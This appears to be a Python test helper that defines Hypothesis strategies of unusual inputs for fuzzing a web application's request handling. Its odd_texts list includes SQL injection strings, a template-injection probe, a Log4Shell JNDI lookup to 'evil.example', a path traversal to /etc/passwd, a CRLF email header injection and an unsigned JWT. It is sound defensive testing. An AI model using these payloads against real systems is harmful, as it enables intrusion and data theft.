"""Odd values, for hypothesis to choose from: texts, JSON values, headers, content types, methods."""

from hypothesis import strategies as st

from tests.factories import ALICE, PASSWORD

odd_texts = st.sampled_from(
    [
        "",
        " ",
        "\x00",
        "\ud800",
        "' OR 1=1 --",
        '"; DROP TABLE auth_user; --',
        "%",
        "_",
        "\\",
        "{{7*7}}",
        "${jndi:ldap://evil.example}",
        "../../etc/passwd",
        "a" * 5000,
        "🎉" * 200,
        "é",
        "e\u0301",
        "\u202e",
        "\ufeff",
        "\uffff",
        "\U0010ffff",
        "0",
        "null",
        "true",
        "1e309",
        ALICE,
        ALICE.upper(),
        f" {ALICE}",
        f"{ALICE}\r\nBcc: bob@example.org",
        "alice@ex\u00e4mple.org",
        "alice@\u2488com",
        "alice@xn--a",
        PASSWORD,
        "https://example.org/a.png",
        "eyJhbGciOiJub25lIn0.e30.",
        "a.b.c",
        "....",
    ]
)
# Not only characters that can be encoded: JSON may escape half of a surrogate pair.
texts = odd_texts | st.text(st.characters(codec=None, exclude_categories=[]), max_size=40)
values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | texts,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(texts, inner, max_size=3),
    max_leaves=6,
)
header_texts = st.text(st.characters(min_codepoint=32, max_codepoint=255, exclude_characters="\x7f"), max_size=60)
content_types = st.sampled_from(
    [
        "application/json",
        "application/json; charset=utf-8",
        "application/json; charset=utf-7",
        "application/json; charset=\x00",
        "application/x-www-form-urlencoded",
        "multipart/form-data",
        "multipart/form-data; boundary=x",
        "text/plain",
        "",
        ";;;=",
    ]
)
methods = st.sampled_from(["GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "CONNECT", "X"])
